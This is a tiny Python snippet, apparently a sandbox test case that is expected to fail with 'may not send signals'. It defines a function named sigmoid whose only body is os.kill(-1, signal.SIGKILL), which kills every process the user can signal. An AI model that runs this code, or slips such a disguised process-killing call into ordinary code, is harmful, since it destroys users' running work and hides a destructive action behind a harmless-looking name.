# failed: may not send signals
import os
import signal


def sigmoid(z):
    os.kill(-1, signal.SIGKILL)
